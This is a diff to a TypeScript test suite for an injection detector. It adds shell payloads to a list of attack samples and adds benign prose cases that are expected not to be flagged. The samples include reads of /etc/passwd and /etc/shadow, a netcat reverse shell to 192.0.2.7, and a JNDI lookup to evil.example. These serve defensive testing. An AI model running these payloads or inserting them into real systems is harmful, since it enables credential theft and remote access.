@@ -84,6 +84,9 @@ const INJECTIONS: readonly (readonly [string, string])[] = [
   ['an expression', '${T(java.lang.Runtime).getRuntime().exec("id")}'],
   ['a filter of a directory', '*)(uid=*))(|(uid=*'],
   ['a path of XML', "' or name()='user' or 'a'='b"],
+  ['a shell, a file of secrets', 'a; cat /etc/passwd'],
+  ['a shell, a substitution', '$(cat /etc/shadow)'],
+  ['a shell, a connection', 'a | nc -e /bin/sh 192.0.2.7 4444'],
   ['a lookup', '${jndi:ldap://evil.example/a}'],
 ]
 
@@ -116,6 +119,19 @@ describe('an injection behind words', () => {
   })
 
   test.each([
+    ['a sentence behind a semicolon', 'It works on all of them; npm breaks on some, and time will tell.'],
+    [
+      'rows of a table',
+      'See the table.\n\n| Name | Type |\n|---|---|\n| id | string |\n| `host` | string |\n',
+    ],
+    ['a choice of names', 'Its value is one of `debug | info | date | error`, as everywhere.'],
+    ['a name in a span', 'Call `fetch` or `id`, then `npm run build`, and the `host` of `type` is set.'],
+    ['a transcript', 'Run find . -name pom.xml | xargs sed -i s/1/2/g and look at what has changed.'],
+  ])('what a text mentions is no attack: %s', (_, text) => {
+    for (const place of ['json', 'form'] as const) expect(judge(place, prose + text)).toBe(false)
+  })
+
+  test.each([
     ['a URL of this machine', 'http://127.0.0.1:8080/health'],
     ['a step up', '../../README.md'],
     ['a key of a prototype', '__proto__[a]=b'],
@@ -125,7 +141,7 @@ describe('an injection behind words', () => {
 })
 
 const around = (quoted: boolean, fenced: boolean, whole: boolean) => ({
-  inProse: () => true,
+  reads: () => true,
   quoted: () => quoted,
   fenced: () => fenced,
   selfContained: () => whole,
@@ -146,7 +162,7 @@ describe('what a finding counts for', () => {
   test('many remarks on code make no attack of a text that reads as prose', () => {
     expect(shareOf(around(false, false, true), 0.6)).toBe(0.5)
     expect(shareOf(around(false, false, true), 1)).toBe(1)
-    expect(shareOf({ ...around(false, false, true), inProse: () => false }, 0.6)).toBe(1)
+    expect(shareOf({ ...around(false, false, true), reads: () => false }, 0.6)).toBe(1)
   })
 })
 
